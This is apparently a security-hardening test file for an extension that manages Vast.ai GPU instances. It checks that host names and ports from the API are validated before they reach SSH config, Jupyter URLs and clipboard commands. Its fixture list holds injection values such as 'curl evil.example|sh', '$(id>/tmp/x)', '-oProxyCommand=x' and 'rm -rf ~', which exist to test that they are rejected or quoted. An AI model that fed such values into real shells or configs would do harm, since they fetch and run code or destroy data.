import assert from 'node:assert/strict';
import { promises as fsp } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { jupyterAccess } from '../../../src/ui/jupyterUrl';
import { renderSshHostBlock, writeSshHost } from '../../../src/ui/ssh/sshConfig';
import { instanceSshCommand, sshCommand, sshEndpoint } from '../../../src/ui/ssh/sshEndpoint';
import { shellQuote } from '../../../src/util/shellQuote';
import { isSafeHost, isValidPort } from '../../../src/vast/hostAddress';
import { fakeInstance } from '../../support/fixtures';

// Finding 2: host fields from the API reach the SSH config, the clipboard and URLs only when checked.
describe('hardening: API host fields', () => {
  const direct22 = { '22/tcp': [{ HostIp: '0.0.0.0', HostPort: '20022' }] };
  const hostile = ['$(id>/tmp/x)', '1.2.3.4;curl evil.example|sh', 'evil.example/#', 'a b', '%h', '-oProxyCommand=x', 'host\nProxyCommand x', "it's", '`id`', ''];

  it('accepts only IP literals and plain host names, ports 1-65535', () => {
    for (const ok of ['1.2.3.4', '2001:db8::1', 'ssh5.vast.ai', 'localhost', 'a-b.example']) assert.ok(isSafeHost(ok), ok);
    for (const bad of hostile) assert.ok(!isSafeHost(bad), bad);
    for (const port of [1, 22, 65535]) assert.ok(isValidPort(port));
    for (const port of [0, -1, 65536, 1.5, NaN, '22']) assert.ok(!isValidPort(port), String(port));
  });

  for (const bad of hostile) {
    it(`a public_ipaddr of ${JSON.stringify(bad)} is not used: the checked proxy is, or nothing`, () => {
      const viaProxy = sshEndpoint(fakeInstance({ public_ipaddr: bad, ports: direct22 }));
      assert.deepEqual(viaProxy && { host: viaProxy.host, kind: viaProxy.kind }, { host: 'ssh5.vast.ai', kind: 'proxy' });
      assert.equal(sshEndpoint(fakeInstance({ public_ipaddr: bad, ports: direct22, ssh_host: bad })), undefined);
      assert.equal(instanceSshCommand(fakeInstance({ public_ipaddr: bad, ssh_host: bad })), undefined);
    });
  }

  it('never builds an endpoint on a port outside 1-65535 (a Jupyter runtype shifts the proxy port by one)', () => {
    assert.equal(sshEndpoint(fakeInstance({ ports: null, ssh_port: 70000 })), undefined);
    assert.equal(sshEndpoint(fakeInstance({ ports: null, ssh_port: 65535, image_runtype: 'jupyter_proxy ssh_proxy' })), undefined);
  });

  it('does not send the Jupyter token to a host that is not one (evil.example/#)', () => {
    const access = jupyterAccess(
      fakeInstance({
        image_runtype: 'jupyter_direc ssh_direc ssh_proxy',
        jupyter_token: 'secret',
        public_ipaddr: 'evil.example/#',
        ports: { ...direct22, '8080/tcp': [{ HostIp: '0.0.0.0', HostPort: '20023' }] },
      }),
    );
    assert.notEqual(access.kind, 'direct');
    assert.ok(!('url' in access) || !access.url.includes('evil'));
  });

  it('refuses to write an unchecked host name into the SSH config, and leaves the file alone', async () => {
    const dir = await fsp.mkdtemp(path.join(os.tmpdir(), 'vast-ssh-'));
    const file = path.join(dir, 'config');
    try {
      for (const bad of hostile) {
        assert.throws(() => renderSshHostBlock({ alias: 'vast-1', hostName: bad, port: 22, user: 'root' }), /Invalid SSH host name/);
        await assert.rejects(writeSshHost(file, { alias: 'vast-1', hostName: bad, port: 22, user: 'root' }));
      }
      await assert.rejects(fsp.stat(file), 'no file was created');
      assert.throws(() => renderSshHostBlock({ alias: 'vast-1', hostName: '1.2.3.4', port: 0, user: 'root' }), /port/);
      assert.throws(() => renderSshHostBlock({ alias: 'vast-1 evil', hostName: '1.2.3.4', port: 22, user: 'root' }), /alias/);
    } finally {
      await fsp.rm(dir, { recursive: true, force: true });
    }
  });

  it('shell-quotes what goes on the clipboard', () => {
    assert.equal(sshCommand({ host: '1.2.3.4', port: 22, user: 'root', kind: 'direct' }), 'ssh -p 22 root@1.2.3.4');
    assert.equal(sshCommand({ host: '1.2.3.4;rm -rf ~', port: 22, user: 'root', kind: 'direct' }), "ssh -p 22 'root@1.2.3.4;rm -rf ~'");
    assert.equal(shellQuote("it's"), `'it'\\''s'`);
  });
});
